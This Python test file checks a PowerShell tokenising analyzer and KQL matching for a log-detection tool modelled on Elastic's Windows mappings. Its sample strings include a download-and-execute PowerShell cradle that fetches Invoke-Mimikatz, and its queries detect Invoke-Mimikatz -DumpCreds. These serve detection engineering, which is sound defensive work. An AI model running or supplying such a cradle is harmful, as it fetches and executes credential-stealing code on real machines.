"""Analyzers a field's mapping names: Elastic's Windows package maps
powershell.file.script_block_text with `powershell_script_analyzer`, a pattern
analyzer on '[\\W&&[^-]]+' (packages/windows/data_stream/powershell_operational/
manifest.yml and fields/fields.yml), so scripts split at every character that is
neither an ASCII word character nor a hyphen."""

from __future__ import annotations

import pytest

from vigil import kql
from vigil.lucene.analysis import analyze, analyze_powershell, field_analyzer


def test_the_pattern_analyzer_keeps_hyphens_and_splits_at_everything_else():
    text = "IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1'); $a_b"
    assert analyze_powershell(text) == (
        "iex",
        "new-object",
        "net",
        "webclient",
        "downloadstring",
        "http",
        "x",
        "invoke-mimikatz",
        "ps1",
        "a_b",
    )
    # The standard analyzer of prose splits the same text otherwise.
    assert "new-object" not in analyze(text)


def test_non_ascii_letters_split_as_java_w_without_unicode_classes_does():
    assert analyze_powershell("Ünïcode-Wörd") == ("n", "code-w", "rd")


def test_the_script_block_field_names_its_analyzer_and_other_text_fields_do_not():
    assert field_analyzer("powershell.file.script_block_text") == "powershell_script"
    assert field_analyzer("message") == "standard"


def _matches(query: str, doc: dict) -> bool:
    return kql.compile(query).matches(doc)


@pytest.mark.parametrize(
    "query, text, expected",
    [
        # match: the query is analysed by the same analyzer, so a hyphenated name is one token.
        ("powershell.file.script_block_text: Invoke-Mimikatz", "x; Invoke-Mimikatz -DumpCreds", True),
        ("powershell.file.script_block_text: Invoke-Mimikatz", "Invoke Mimikatz", False),
        ("powershell.file.script_block_text: Invoke-Mimikatz", "Invoke-MimikatzX", False),
        # A wildcard matches one token, and tokens here hold hyphens.
        ("powershell.file.script_block_text: invoke-mimi*", "Invoke-Mimikatz", True),
        ("powershell.file.script_block_text: *Mimikatz*", "[Invoke-Mimikatz]", True),
        # match_phrase: the tokens in a row.
        ('powershell.file.script_block_text: "Net.WebClient"', "New-Object Net.WebClient", True),
        ('powershell.file.script_block_text: "Net.WebClient"', "Net. Other WebClient", False),
        # message keeps the standard analyzer: a hyphen splits there.
        ("message: Invoke-Mimikatz", "ran Invoke Mimikatz", True),
    ],
)
def test_kql_on_the_script_block_uses_the_fields_analyzer(query, text, expected):
    field = query.split(":")[0]
    doc: dict = {}
    node = doc
    parts = field.split(".")
    for p in parts[:-1]:
        node = node.setdefault(p, {})
    node[parts[-1]] = text
    assert _matches(query, doc) is expected
